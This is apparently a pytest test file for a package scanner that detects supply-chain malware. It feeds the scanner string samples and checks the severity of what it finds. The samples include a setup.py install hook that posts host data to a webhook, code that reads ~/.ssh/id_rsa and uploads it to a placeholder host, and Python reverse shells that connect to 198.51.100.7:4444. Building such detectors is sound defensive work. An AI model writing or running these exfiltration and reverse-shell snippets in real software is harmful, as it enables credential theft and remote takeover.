"""Exfiltration channels, credential theft inside one function and reverse shells, as harmless replicas.

Hosts are request-catcher and webhook shapes on reserved names or with made-up secrets; nothing here
is run, only scanned.
"""

from __future__ import annotations

from pathlib import Path

import pytest
from test_techniques import scan, worst

from chainproof.deps.files import TargetKind
from chainproof.deps.model import Severity

HOOK = "https://discord.com/api/webhooks/1234567890/canary-secret"
TOKEN = "1234567890:" + "A" * 35


@pytest.mark.parametrize(
    "channel",
    [
        "https://canary.oastify.com/x",
        "https://canary.m.pipedream.net",
        "https://canary.ngrok-free.app",
        HOOK,
        "https://hooks.slack.com/services/T000/B000/canary",
        "https://pastebin.com/api/api_post.php",
    ],
)
def test_a_beacon_to_an_exfiltration_channel_at_import_is_high(tmp_path: Path, channel: str) -> None:
    module = f"import requests\nrequests.get({channel!r})\n"
    found = scan(tmp_path, {"pkg-1.0/pkg/__init__.py": module})
    assert worst(found, "code-exfil-channel") >= Severity.HIGH


def test_system_information_posted_to_a_webhook_from_setup_is_critical(tmp_path: Path) -> None:
    setup = (
        "import os, socket, requests\n"
        "from setuptools import setup\nfrom setuptools.command.install import install\n"
        "def beacon():\n"
        f"    requests.post({HOOK!r}, json={{'host': socket.gethostname(), 'cwd': os.getcwd()}})\n"
        "class Install(install):\n    def run(self):\n        beacon()\n        install.run(self)\n"
        "setup(name='pkg', cmdclass={'install': Install})\n"
    )
    found = scan(tmp_path, {"pkg-1.0/setup.py": setup})
    assert worst(found, "code-exfil-channel") is Severity.CRITICAL


def test_a_telegram_bot_token_beside_a_send_is_a_channel(tmp_path: Path) -> None:
    module = (
        "import requests\n"
        f"TOKEN = {TOKEN!r}\n"
        "requests.post(f'https://api.telegram.org/bot{TOKEN}/sendMessage', json={'text': 'up'})\n"
    )
    found = scan(tmp_path, {"pkg-1.0/pkg/notify.py": module})
    assert worst(found, "code-exfil-channel") is Severity.CRITICAL


@pytest.mark.parametrize(
    "benign",
    [
        # A webhook client library: the base URL without any secret, sending when asked to.
        "import requests\nBASE = 'https://discord.com/api/webhooks/'\n"
        "def send(hook_id, token, text):\n"
        "    requests.post(BASE + hook_id + '/' + token, json={'content': text})\n",
        # A bot framework: the API root, the token supplied by the user.
        "import requests\nAPI = 'https://api.telegram.org/bot'\n"
        "def call(token, method, data):\n    return requests.post(API + token + '/' + method, data=data)\n",
        # Documentation of a tunnel in prose, and an ordinary fetch.
        "import requests\n'''Expose it with ngrok (see https://ngrok.com/docs).'''\n"
        "def get():\n    return requests.get('https://pypi.org/simple/')\n",
    ],
)
def test_clients_of_such_services_stay_quiet(tmp_path: Path, benign: str) -> None:
    found = scan(tmp_path, {"lib/__init__.py": benign}, TargetKind.WHEEL)
    assert worst(found) < Severity.HIGH, found


def test_a_credential_read_sent_out_by_the_same_function_is_high(tmp_path: Path) -> None:
    module = (
        "import os, requests\n"
        "def sync():\n"
        "    with open(os.path.expanduser('~/.ssh/id_rsa')) as f:\n        key = f.read()\n"
        "    requests.post('https://canary.invalid/upload', data=key)\n"
    )
    found = scan(tmp_path, {"pkg-1.0/pkg/sync.py": module})
    assert worst(found, "code-credential-read") is Severity.HIGH


def test_a_credential_read_and_an_unrelated_send_elsewhere_stay_below_high(tmp_path: Path) -> None:
    module = (
        "import os, requests\n"
        "def key_path():\n    return open(os.path.expanduser('~/.ssh/id_rsa')).name\n"
        "def upload(data):\n    requests.post('https://api.example.invalid/upload', data=data)\n"
    )
    found = scan(tmp_path, {"lib/ssh.py": module}, TargetKind.WHEEL)
    assert worst(found, "code-credential-read") < Severity.HIGH


# --- reverse shells ---------------------------------------------------------------------------

SHELL = (
    "import socket, os, {spawn_import}\n"
    "def connect():\n"
    "    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n"
    "    s.connect(('198.51.100.7', 4444))\n"
    "    os.dup2(s.fileno(), 0)\n    os.dup2(s.fileno(), 1)\n    os.dup2(s.fileno(), 2)\n"
    "    {spawn}\n"
)


@pytest.mark.parametrize(
    ("spawn_import", "spawn"),
    [("pty", "pty.spawn('/bin/sh')"), ("subprocess", "subprocess.call(['/bin/sh', '-i'])")],
)
def test_a_reverse_shell_is_found_and_critical_when_it_runs_at_import(
    tmp_path: Path, spawn_import: str, spawn: str
) -> None:
    body = SHELL.format(spawn_import=spawn_import, spawn=spawn)
    on_call = scan(tmp_path / "a", {"pkg-1.0/pkg/shell.py": body})
    on_import = scan(tmp_path / "b", {"pkg-1.0/pkg/__init__.py": body + "connect()\n"})
    assert worst(on_call, "code-reverse-shell") is Severity.HIGH
    assert worst(on_import, "code-reverse-shell") is Severity.CRITICAL


def test_a_process_with_socket_streams_is_a_reverse_shell(tmp_path: Path) -> None:
    module = (
        "import socket, subprocess\n"
        "s = socket.create_connection(('198.51.100.7', 4444))\n"
        "subprocess.Popen(['cmd.exe'], stdin=s.fileno(), stdout=s.fileno())\n"
    )
    found = scan(tmp_path, {"pkg-1.0/pkg/__init__.py": module})
    assert worst(found, "code-reverse-shell") is Severity.CRITICAL


def test_a_daemon_redirecting_its_streams_to_devnull_is_no_shell(tmp_path: Path) -> None:
    module = (
        "import os, socket, subprocess\n"
        "def daemonize():\n"
        "    null = os.open(os.devnull, os.O_RDWR)\n    os.dup2(null, 0)\n"
        "    subprocess.call(['true'])\n"
        "def serve(port):\n    return socket.socket().bind(('', port))\n"
    )
    found = scan(tmp_path, {"lib/daemon.py": module}, TargetKind.WHEEL)
    # dup2, a socket and a process in one file: the shape is close, but in functions only and
    # nothing connects out; reported at most as high, never critical.
    assert worst(found) < Severity.CRITICAL


def test_a_send_to_a_mock_api_inside_a_function_is_found(tmp_path: Path) -> None:
    # A file whose only other sign is the network call: it is still read whole for the channel.
    module = (
        "import requests\n"
        "def sign(key):\n    requests.post('https://canary.mockapi.io/keys', [('key', key)])\n"
    )
    found = scan(tmp_path, {"pkg-1.0/pkg/main.py": module})
    assert worst(found, "code-exfil-channel") is Severity.HIGH
